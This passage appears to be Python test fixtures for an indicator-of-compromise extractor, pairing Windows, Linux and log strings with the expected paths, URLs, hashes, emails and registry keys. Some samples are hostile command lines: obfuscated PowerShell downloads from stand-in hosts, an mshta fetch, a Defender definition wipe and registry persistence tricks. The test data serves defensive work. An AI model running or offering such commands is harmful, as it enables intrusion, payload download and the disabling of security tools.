        ipv4="1.2.3.4",
        windows_path=r"C:\Users\user\AppData\Local\Temp\bzzzzzz.txt",
    ),
    C(
        r"csrss.exe ObjectDirectory=\Windows SharedSection=1024,20480,768 Windows=On "
        r"ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 MaxRequestThreads=16"
    ),
    C(
        r"net  use q: \\MSTICAlertsWin1\TestShare Bob_testing /User:adm1nistrator",
        windows_path=r"\\MSTICAlertsWin1\TestShare",
    ),
    C(
        '"setup.exe" --install-archive="C:\\Program Files (x86)\\Google\\Update\\Install\\'
        "{4B8047EF-0509-4003-AAAB-3590B2C399D9}\\FilePII_d4bd33bd6f3176b4dcfa32e406e4c0881d6aa1d0.tmp"
        '\\CHROME_PATCH.PACKED.7Z" --previous-version="91.0.4472.106" --channel=stable',
        windows_path="C:\\Program Files (x86)\\Google\\Update\\Install\\{4B8047EF-0509-4003-AAAB-"
        "3590B2C399D9}\\FilePII_d4bd33bd6f3176b4dcfa32e406e4c0881d6aa1d0.tmp\\CHROME_PATCH.PACKED.7Z",
        sha1="d4bd33bd6f3176b4dcfa32e406e4c0881d6aa1d0",
    ),
    C(
        "mshta  https://page.googledocpage.com/zOBOvBYm550gShsdwEAKoJUi95+jr4jqgNQ/2N18Q7Y=",
        url="https://page.googledocpage.com/zOBOvBYm550gShsdwEAKoJUi95+jr4jqgNQ/2N18Q7Y=",
        dns="page.googledocpage.com",
    ),
    C(
        r"""cmd  /c ".\pOWErS^H^ElL^.eX^e^ -^ExEc^Ut^IoNpOliCy BYpa^sS i^mPOr^T-^M^oDuLE biTsTr^ANSFe^R;"""
        r"""^S^tar^t-bITSTRanS^fER -^SOURCE^ 'http://somedomain/best-kitten-names-1.jpg' ^-d^EStIN^At^IOn """
        r"""^'C:\Users\$env:UserName\AppData\Local\Temp\kittens1.jpg';" """,
        url="http://somedomain/best-kitten-names-1.jpg",
        windows_path=r"C:\Users\$env:UserName\AppData\Local\Temp\kittens1.jpg",
    ),
    C(
        r'"csc.exe" /noconfig /fullpaths @"C:\Windows\TEMP\ipei4faw\ipei4faw.cmdline"',
        windows_path=r"C:\Windows\TEMP\ipei4faw\ipei4faw.cmdline",
    ),
    C(
        r'.\powershell  -Noninteractive -Noprofile -Command "Invoke-Expression Get-Process; '
        r'Invoke-WebRequest -Uri http://badguyserver/pwnme"',
        url="http://badguyserver/pwnme",
    ),
    C(r'"AGMService.exe" \\.\pipe\gc_pipe_rjwcoi 3', windows_path=r"\\.\pipe\gc_pipe_rjwcoi"),
    C(
        r'cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\Windows\TEMP\FilePII_694508ad91b1b5f81c0e1947600bec8cd46844e3.tmp"'
        r' "c:\Windows\Temp\amldwudm\FilePII_e76f5ffa90f556a4730cd4f989e4835d6639c9c7.TMP"',
        windows_path=[
            r"C:\Windows\TEMP\FilePII_694508ad91b1b5f81c0e1947600bec8cd46844e3.tmp",
            r"c:\Windows\Temp\amldwudm\FilePII_e76f5ffa90f556a4730cd4f989e4835d6639c9c7.TMP",
        ],
        sha1=[
            "694508ad91b1b5f81c0e1947600bec8cd46844e3",
            "e76f5ffa90f556a4730cd4f989e4835d6639c9c7",
        ],
    ),
    C(
        f'"powershell.exe" -w Hidden -ep Bypass -file "C:\\Users\\UserPII_{_P1}\\AppData\\Local\\Temp\\'
        f'FilePII_{_F1}.ps1" Ipv4PII_{_IP1}/ss 408222891',
        windows_path=f"C:\\Users\\UserPII_{_P1}\\AppData\\Local\\Temp\\FilePII_{_F1}.ps1",
        sha1=[_P1, _F1, _IP1],
    ),
    C(
        f'wscript  "C:\\Users\\UserPII_{_P1}\\AppData\\Local\\Temp\\FilePII_{_F1}.js" page.googledocpage.com/ 1 ',
        windows_path=f"C:\\Users\\UserPII_{_P1}\\AppData\\Local\\Temp\\FilePII_{_F1}.js",
        sha1=[_P1, _F1],
        dns="page.googledocpage.com",
    ),
    C(
        """[{'USER_END': ['pid=28097', 'uid=0', 'auid=0', 'ses=196095', "msg='op=PAM:session_close", """
        """'acct="root"', 'exe="/usr/sbin/cron"', 'hostname=?', 'addr=?', 'terminal=cron', "res=success'"]}]""",
        linux_path="/usr/sbin/cron",
    ),
    C(
        """{'PATH': ['item=1', 'name="/lib64/ld-linux-x86-64.so.2"', 'inode=2081', 'dev=08:01', 'mode=0100755', """
        """'rdev=00:00', 'cap_fp=0000000000000000']}""",
        linux_path="/lib64/ld-linux-x86-64.so.2",
    ),
    C(
        """{'CWD': ['cwd="/var/lib/waagent/WALinuxAgent-2.2.36"']}""",
        linux_path="/var/lib/waagent/WALinuxAgent-2.2.36",
    ),
    C(
        ".\\powershell  -command {(n`EW-obJ`E`cT N`et`.W`eb`C`li`en`t).DownloadFile("
        "'https://blah/png','google.png')}",
        url="https://blah/png",
    ),
    C(
        '"Teams.exe" "msteams:https://teams.microsoft.com/l/meetup-join/19%3ameeting_MmI4MWFk%40thread.v2/0'
        '?context=%7b%22Tid%22%3a%22943328ec%22%7d&launchAgent=outlook_protocol_launch"',
        url="https://teams.microsoft.com/l/meetup-join/19%3ameeting_MmI4MWFk%40thread.v2/0"
        "?context=%7b%22Tid%22%3a%22943328ec%22%7d&launchAgent=outlook_protocol_launch",
        dns="teams.microsoft.com",
    ),
    C("conhost.exe 0xffffffff -ForceV1"),
    C(
        '"wuauclt.exe" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId '
        "e396fc5e-a5c5-4589-8b56-7124f33ee1a9 /RunHandlerComServer"
    ),
    C('"GoogleUpdate.exe" /ua /installsource core'),
    C(
        '"SearchProtocolHost.exe" "Software\\Microsoft\\Windows Search" '
        '"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" '
        '"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"  "1"',
        windows_path="C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc",
    ),
    # ---------------------------------------------------------------- spaced components
    C(
        "Persistence via HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon (Userinit modified).",
        registry_key="HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
    ),
    C(
        "reg add HKCU\\Control Panel\\Desktop /v SCRNSAVE.EXE /d C:\\Users\\Public\\s.scr /f",
        registry_key="HKCU\\Control Panel\\Desktop",
        windows_path="C:\\Users\\Public\\s.scr",
    ),
    C(
        "ProxyServer set under HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings, value 1",
        registry_key="HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings",
    ),
    C(
        "Debugger under HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe",
        registry_key="HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe",
    ),
    C(
        "dropped C:\\Program Files (x86)\\Common Files\\Microsoft Shared\\ink\\tipsvc.dll and loaded it",
        windows_path="C:\\Program Files (x86)\\Common Files\\Microsoft Shared\\ink\\tipsvc.dll",
    ),
    C(
        "C:\\Program Files\\Windows Defender\\MpCmdRun.exe -RemoveDefinitions -All",
        windows_path="C:\\Program Files\\Windows Defender\\MpCmdRun.exe",
    ),
    C(
        "staged in C:\\System Volume Information\\SPP\\x.bin",
        windows_path="C:\\System Volume Information\\SPP\\x.bin",
    ),
    C(
        "LaunchAgent copied to /Library/Application Support/com.apple.updater/agent.plist by the dropper",
        linux_path="/Library/Application Support/com.apple.updater/agent.plist",
    ),
    C(
        "copied to C:\\Users\\Public\\Windows NTFS volume notes",
        windows_path="C:\\Users\\Public\\Windows",
    ),
    C(
        "wrote C:\\Windows\\Temp\\Program then exited",
        windows_path="C:\\Windows\\Temp\\Program",
    ),
    # ---------------------------------------------------------------- labelled hash kinds
    C(
        "PE imphash: f34d5f2d4577ed6d9ceec516c1f5a744, MD5 " + H_MD5,
        imphash="f34d5f2d4577ed6d9ceec516c1f5a744",
        md5=H_MD5,
    ),
    C(
        '{"imphash": "F34D5F2D4577ED6D9CEEC516C1F5A744", "sha256": "' + H_SHA256 + '"}',
        imphash="f34d5f2d4577ed6d9ceec516c1f5a744",
        sha256=H_SHA256,
    ),
    C(
        "Authentihash: 3e4f0b2a9c1d7e8f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f",
        authentihash="3e4f0b2a9c1d7e8f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f",
    ),
    C(
        "SHA512 " + "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce"
        "47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e",
        sha512="cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce"
        "47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e",
    ),
    C(
        'ssdeep 1536:9sJkV2AB7fTdy0HXQnbM2yHq3eV6v3o:9sJkV2uoHXQnbQHqPd,"invoice.exe"',
        ssdeep="1536:9sJkV2AB7fTdy0HXQnbM2yHq3eV6v3o:9sJkV2uoHXQnbQHqPd",
    ),
    C(
        "TLSH T1A2B3C4D5E6F708192A3B4C5D6E7F8091A2B3C4D5E6F708192A3B4C5D6E7F8091A2B3C4 (VirusTotal)",
        tlsh="T1A2B3C4D5E6F708192A3B4C5D6E7F8091A2B3C4D5E6F708192A3B4C5D6E7F8091A2B3C4",
    ),
    C("logged at 12:30:45 and 96:abc:def, ratio 3:1:2"),
    # ---------------------------------------------------------------- escaped @
    C(
        '<a href="mailto:billing%40invoice-portal.net">pay</a>',
        email="billing@invoice-portal.net",
        dns="invoice-portal.net",
    ),
    C(
        "redirect?contact=hr.dept%2540payroll-update.com&lang=en",
        email="hr.dept@payroll-update.com",
        dns="payroll-update.com",
    ),
    C(
        "Reply-To: =?utf-8?Q?support=40secure-login.info?=",
        email="support@secure-login.info",
        dns="secure-login.info",
    ),
    C(
        r"$u = 'ops\x40c2-relay.org'; Send-MailMessage -To $u",
        email="ops@c2-relay.org",
        dns="c2-relay.org",
    ),
    C("query q=%40cdn-static.net returned", dns="cdn-static.net"),
    C("ratio=40.5 and width=40px"),
    # ---------------------------------------------------------------- version separators
    C("StringFileInfo FileVersion\x004.0.0.1\x00ProductVersion\x00\x0010.0.19041.1"),
    C("FileVersion\t6.3.9600.17415\tCompanyName\tMicrosoft Corporation"),
    C("ProductVersion      2.4.1.9     (x64) beacon to 185.220.101.47", ipv4="185.220.101.47"),
    C("Version:\x00\x005.1.2600.5512"),
]
